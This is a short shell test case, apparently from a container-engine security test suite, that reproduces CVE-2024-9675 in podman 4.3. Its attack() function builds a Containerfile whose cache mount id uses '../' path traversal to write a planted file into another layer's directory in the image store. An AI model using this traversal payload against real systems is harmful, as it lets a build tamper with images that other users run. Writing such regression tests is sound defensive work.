# SPDX-License-Identifier: Apache-2.0
# CVE-2024-9675: podman 4.3 takes "../" in the id of a cache mount. Its builds write wherever their user
# may; what they do to the store is found there.
what='a cache mount that leads into the store (podman 4.3)'
expect=tree-added engines=bookworm
attack() {
	path=/planted
	cat >"$WORK/ctx/Containerfile.escape" <<-END
		FROM localhost/base
		RUN --mount=type=cache,id=../../g/overlay/$LAYER/diff,target=/out echo EVIL >/out/planted
	END
	build -f "$WORK/ctx/Containerfile.escape" "$WORK/ctx"
}
